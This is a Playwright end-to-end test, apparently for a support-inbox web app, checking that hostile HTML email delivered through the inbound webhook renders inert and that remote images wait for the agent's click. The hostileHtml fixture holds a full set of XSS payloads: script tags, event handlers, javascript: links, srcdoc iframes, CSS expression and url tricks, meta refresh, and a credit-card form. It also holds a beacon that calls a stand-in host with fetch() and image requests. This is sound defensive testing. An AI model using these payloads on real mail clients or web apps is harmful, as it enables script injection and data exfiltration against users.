import { deflateSync } from "node:zlib";
import { expect, test, type APIRequestContext, type BrowserContext, type Page } from "@playwright/test";
import { signedIn } from "./pages/session";

/**
 * Hostile HTML mail, delivered the real way (POST raw MIME to the channel's inbound webhook with its secret), is inert
 * in the thread: nothing it carries runs, navigates, fetches or phones home; remote images wait for the agent; inline
 * cid: images show.
 */

const PWNED = "pwned.e2e.test";
const REMOTE = "images.e2e.test";

type Trpc = { result?: { data?: { json?: unknown } }; error?: { json?: { message?: string } } };

async function trpc<T>(request: APIRequestContext, path: string, input?: unknown, method: "GET" | "POST" = "GET"): Promise<T> {
  const res =
    method === "GET"
      ? await request.get(`/api/trpc/${path}${input === undefined ? "" : `?input=${encodeURIComponent(JSON.stringify({ json: input }))}`}`)
      : await request.post(`/api/trpc/${path}`, { data: { json: input } });
  const body = (await res.json()) as Trpc;
  expect(res.ok(), `${path}: ${body.error?.json?.message ?? res.status()}`).toBe(true);
  return body.result?.data?.json as T;
}

type ChannelItem = { id: string; kind: string; name: string };
type Detail = {
  id: string;
  name: string;
  address: string;
  ownerTeam: { id: string } | null;
  email: { inbound: { smtpListener: boolean } } | null;
  emailSettings: {
    displayName: string;
    signature: string;
    reopenWindowDays: number;
    imap: { host: string; port: number; secure: boolean; user: string; mailbox: string } | null;
    smtp: { host: string; port: number; secure: boolean; user: string; requireTLS: boolean } | null;
  };
};

/** As a lead, through the settings procedures: the demo Support email channel with its inbound webhook on and a fresh secret. */
async function webhookForSupportEmail(request: APIRequestContext): Promise<{ channelId: string; secret: string }> {
  const { items } = await trpc<{ items: ChannelItem[] }>(request, "channels.list");
  const channel = items.find((c) => c.kind === "EMAIL" && c.name === "Support email");
  expect(channel, "the demo workspace has a Support email channel").toBeTruthy();
  const d = await trpc<Detail>(request, "channels.get", { id: channel!.id });
  const s = d.emailSettings;
  await trpc(
    request,
    "channels.updateEmail",
    {
      id: d.id,
      name: d.name,
      address: d.address,
      displayName: s.displayName,
      signature: s.signature,
      ownerTeamId: d.ownerTeam?.id ?? null,
      reopenWindowDays: s.reopenWindowDays,
      inbound: {
        smtpListener: d.email?.inbound.smtpListener ?? false,
        imap: s.imap && { host: s.imap.host, port: s.imap.port, secure: s.imap.secure, user: s.imap.user, mailbox: s.imap.mailbox },
        webhook: true,
      },
      smtp: s.smtp && { host: s.smtp.host, port: s.smtp.port, secure: s.smtp.secure, user: s.smtp.user, requireTLS: s.smtp.requireTLS },
    },
    "POST",
  );
  const { secret } = await trpc<{ secret: string }>(request, "channels.rotateWebhookSecret", { id: d.id }, "POST");
  return { channelId: d.id, secret };
}

async function deliver(request: APIRequestContext, hook: { channelId: string; secret: string }, mime: string): Promise<string> {
  const res = await request.post(`/api/webhooks/email/${hook.channelId}`, {
    headers: { "content-type": "message/rfc822", authorization: `Bearer ${hook.secret}` },
    data: Buffer.from(mime.replace(/\r?\n/g, "\r\n")),
  });
  const body = (await res.json()) as { status?: string; conversationId?: string; error?: string };
  expect(res.status(), body.error).toBe(202);
  expect(body.status).toBe("created");
  return body.conversationId!;
}

// --- a real PNG (the inline image), made here so its pixels are known --------------------------------------------------
const CRC = Array.from({ length: 256 }, (_, n) => {
  let c = n;
  for (let k = 0; k < 8; k++) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1;
  return c >>> 0;
});
const crc32 = (b: Buffer) => {
  let c = 0xffffffff;
  for (const x of b) c = CRC[(c ^ x) & 0xff]! ^ (c >>> 8);
  return (c ^ 0xffffffff) >>> 0;
};
function chunk(type: string, data: Buffer): Buffer {
  const len = Buffer.alloc(4);
  len.writeUInt32BE(data.length);
  const body = Buffer.concat([Buffer.from(type, "latin1"), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(body));
  return Buffer.concat([len, body, crc]);
}
function png(width: number, height: number, rgb: [number, number, number]): Buffer {
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(width, 0);
  ihdr.writeUInt32BE(height, 4);
  ihdr.set([8, 2, 0, 0, 0], 8); // 8-bit RGB
  const row = Buffer.concat([Buffer.from([0]), Buffer.alloc(width * 3).map((_, i) => rgb[i % 3]!)]);
  const raw = Buffer.concat(Array.from({ length: height }, () => row));
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    chunk("IHDR", ihdr),
    chunk("IDAT", deflateSync(raw)),
    chunk("IEND", Buffer.alloc(0)),
  ]);
}
const b64lines = (b: Buffer) => b.toString("base64").replace(/.{76}/g, "$&\n");

// --- the hostile email ------------------------------------------------------------------------------------------------
const beacon = (name: string) =>
  `fetch('http://${PWNED}/${name}');new Image().src='http://${PWNED}/img-${name}';parent.postMessage('pwned:${name}','*');top.postMessage('pwned:${name}','*');console.error('pwned:${name}');try{top.document.title='PWNED ${name}'}catch(e){}`;

function hostileHtml(tag: string): string {
  return `<html><head>
<meta http-equiv="refresh" content="0;url=http://${PWNED}/meta-refresh">
<base href="http://${PWNED}/base/">
<style>@import url(http://${PWNED}/import.css); body{background:url(http://${PWNED}/css-bg)} .x{width:expression(alert('pwned'));behavior:url(#default#time2)}</style>
<script>${beacon("head-script")};alert('pwned')</script>
</head><body onload="${beacon("body-onload")}">
<h1>Invoice ${tag}</h1>
<p>Hello from a hostile sender ${tag}. Please review the attached invoice.</p>
<script>${beacon("script")};alert('pwned');top.location='http://${PWNED}/script-nav'</script>
<img src=x onerror="${beacon("onerror")}" alt="broken">
<p><a href="javascript:${beacon("href")};top.location='http://${PWNED}/href-nav'">Click for your refund ${tag}</a></p>
<iframe srcdoc="&lt;script&gt;${beacon("srcdoc")}&lt;/script&gt;" width=10 height=10></iframe>
<div style="width: expression(alert('pwned')); background-image: url(javascript:${beacon("css-url")}); color: #b91c1c">Styled text ${tag}</div>
<div style="background:url('http://${PWNED}/inline-bg')">Background</div>
<div style="background:\\75 rl(http://${PWNED}/escaped-url); border-image: image-set('http://${PWNED}/image-set' 1x)">Escaped CSS</div>
<svg xmlns="http://www.w3.org/2000/svg" width="20" height="20" onload="${beacon("svg-onload")}"><script>${beacon("svg-script")}</script><image href="http://${PWNED}/svg-image" width="20" height="20"/></svg>
<form action="http://${PWNED}/form" method="post"><input name="card" value="4111"><button type="submit">Confirm payment ${tag}</button></form>
<object data="http://${PWNED}/object"></object><embed src="http://${PWNED}/embed">
<p><img src="https://${REMOTE}/logo.png" alt="remote logo" width="48" height="48"></p>
<p>Regards, Mallory</p>
</body></html>`;
}

function hostileMime(tag: string): string {
  return `From: Mallory <mallory.${tag}@evil.example>
To: support@demo-store.example
Subject: Invoice ${tag}
Message-ID: <hostile.${tag}@evil.example>
Date: ${new Date().toUTCString()}
MIME-Version: 1.0
Content-Type: multipart/alternative; boundary="b1"

--b1
Content-Type: text/plain; charset=utf-8

Hello from a hostile sender ${tag}.

--b1
Content-Type: text/html; charset=utf-8
Content-Transfer-Encoding: base64

${b64lines(Buffer.from(hostileHtml(tag)))}
--b1--
`;
}

function inlineImageMime(tag: string, image: Buffer): string {
  return `From: Olivia <olivia.${tag}@customer.example>
To: support@demo-store.example
Subject: Damaged parcel ${tag}
Message-ID: <inline.${tag}@customer.example>
Date: ${new Date().toUTCString()}
MIME-Version: 1.0
Content-Type: multipart/related; boundary="r1"

--r1
Content-Type: text/html; charset=utf-8

<p>The parcel arrived like this ${tag}:</p><p><img src="cid:photo.${tag}@customer.example" alt="inline photo"></p>
--r1
Content-Type: image/png; name="photo.png"
Content-Transfer-Encoding: base64
Content-ID: <photo.${tag}@customer.example>
Content-Disposition: inline; filename="photo.png"

${b64lines(image)}
--r1--
`;
}

/** Everything a payload could do if it ran, recorded for the whole browser context. */
async function watch(context: BrowserContext, page: Page) {
  const seen = { pwnedRequests: [] as string[], remoteRequests: [] as string[], dialogs: [] as string[], console: [] as string[] };
  await context.route(`**://${PWNED}/**`, (route) => {
    seen.pwnedRequests.push(route.request().url());
    return route.fulfill({ status: 204 });
  });
  await context.route(`https://${REMOTE}/**`, (route) => {
    seen.remoteRequests.push(route.request().url());
    return route.fulfill({ status: 200, contentType: "image/png", body: png(48, 48, [37, 99, 235]) });
  });
  page.on("dialog", (d) => {
    seen.dialogs.push(d.message());
    void d.dismiss();
  });
  page.on("console", (m) => {
    if (m.type() === "error" || /pwned/i.test(m.text())) seen.console.push(`${m.type()}: ${m.text()} @ ${m.location().url}`);
  });
  page.on("pageerror", (e) => seen.console.push(`pageerror: ${e.message}`));
  page.on("popup", (p) => seen.pwnedRequests.push(`popup ${p.url()}`));
  return seen;
}

test("hostile HTML email is inert; remote images wait for the agent; inline cid images show", async ({ browser }) => {
  test.setTimeout(120_000);
  const tag = Date.now().toString(36);
  const lead = await signedIn(browser, "lead@example.com");
  const hook = await webhookForSupportEmail(lead.page.request);
  const conversationId = await deliver(lead.page.request, hook, hostileMime(tag));
  await lead.close();

  const { page, close } = await signedIn(browser, "agent@example.com");
  const seen = await watch(page.context(), page);
  const title = await page.title();
  const inboxUrl = new URL(page.url());
  await page.goto(`/inbox?c=${conversationId}`);
  const startUrl = page.url();
  const navigations: string[] = [];
  page.on("framenavigated", (f) => {
    if (f === page.mainFrame()) navigations.push(f.url());
  });
  // anything a payload posts to the top window is recorded
  await page.evaluate(() => {
    const w = window as unknown as { __messages: string[] };
    w.__messages = [];
    window.addEventListener("message", (e) => w.__messages.push(String(e.data)));
  });

  const pane = page.getByTestId("conversation-pane");
  await expect(pane.getByText(`Invoice ${tag}`).first()).toBeVisible();
  const frameEl = pane.locator('iframe[title^="Email from"]').first();
  await expect(frameEl).toBeVisible();
  expect(await frameEl.getAttribute("sandbox")).toBe("");
  const frame = pane.frameLocator('iframe[title^="Email from"]').first();

  // the visible text renders inside the iframe
  await expect(frame.getByText(`Hello from a hostile sender ${tag}.`)).toBeVisible();
  await expect(frame.getByText(`Styled text ${tag}`)).toBeVisible();
  await expect(frame.getByText("Regards, Mallory")).toBeVisible();
  // what was dangerous is gone from the DOM
  await expect(frame.locator("script, iframe, svg, form, input, button, object, embed, meta[http-equiv=refresh], base")).toHaveCount(0);
  await expect(frame.locator("[onerror], [onload], [srcdoc], [action]")).toHaveCount(0);
  const link = frame.getByText(`Click for your refund ${tag}`);
  await expect(link).toBeVisible();
  expect(await link.getAttribute("href")).toBeNull();
  // clicking the former javascript: link does nothing either
  await link.click();

  // the remote image is not requested until the agent asks for it
  const remote = frame.locator('img[alt="remote logo"]');
  await expect(remote).toHaveCount(1);
  await page.waitForTimeout(1500); // time for anything that was going to fire
  expect(seen.remoteRequests).toEqual([]);
  expect(await remote.evaluate((img: HTMLImageElement) => img.naturalWidth)).toBe(0);

  // nothing ran, nothing navigated, nothing was fetched
  expect(seen.dialogs).toEqual([]);
  expect(seen.pwnedRequests).toEqual([]);
  // a payload that ran logs "pwned:…"; a script or handler that merely reached the sandbox is reported as blocked there
  // (Playwright's own evaluations in the frame report the same with no URL: those do not count)
  const ran = (c: string) =>
    /pwned/i.test(c) || c.startsWith("pageerror") || (/blocked script|allow-modals/i.test(c) && c.endsWith("@ about:srcdoc"));
  expect(seen.console.filter(ran)).toEqual([]);
  expect(await page.evaluate(() => (window as unknown as { __messages: string[] }).__messages)).toEqual([]);
  expect(navigations.filter((u) => new URL(u).origin !== inboxUrl.origin)).toEqual([]);
  expect(page.url()).toBe(startUrl);
  expect(await page.title()).toBe(title);
  await page.screenshot({ path: "test-results/screens/email-hostile.png" });

  await pane.getByRole("button", { name: "Show remote images" }).click();
  await expect.poll(() => seen.remoteRequests.length).toBeGreaterThan(0);
  expect(seen.remoteRequests[0]).toBe(`https://${REMOTE}/logo.png`);
  await expect.poll(() => remote.evaluate((img: HTMLImageElement) => img.naturalWidth)).toBe(48);
  await expect(pane.getByRole("button", { name: "Show remote images" })).toBeHidden();
  await page.screenshot({ path: "test-results/screens/email-remote-images.png" });
  // allowing images allows images only
  await page.waitForTimeout(500);
  expect(seen.pwnedRequests).toEqual([]);
  expect(seen.dialogs).toEqual([]);
  expect(await page.title()).toBe(title);

  // an inline (cid:) image, delivered the same way, shows inside the sandbox
  const inlineConversation = await deliver(page.request, hook, inlineImageMime(tag, png(64, 40, [220, 38, 38])));
  await page.goto(`/inbox?c=${inlineConversation}`);
  const frame2 = page.getByTestId("conversation-pane").frameLocator('iframe[title^="Email from"]').first();
  await expect(frame2.getByText(`The parcel arrived like this ${tag}:`)).toBeVisible();
  const photo = frame2.locator('img[alt="inline photo"]');
  await expect(photo).toHaveAttribute("src", /^data:image\/png;base64,/);
  await expect.poll(() => photo.evaluate((img: HTMLImageElement) => img.naturalWidth)).toBe(64);
  await page.screenshot({ path: "test-results/screens/email-inline-image.png" });
  expect(seen.dialogs).toEqual([]);
  await close();
});
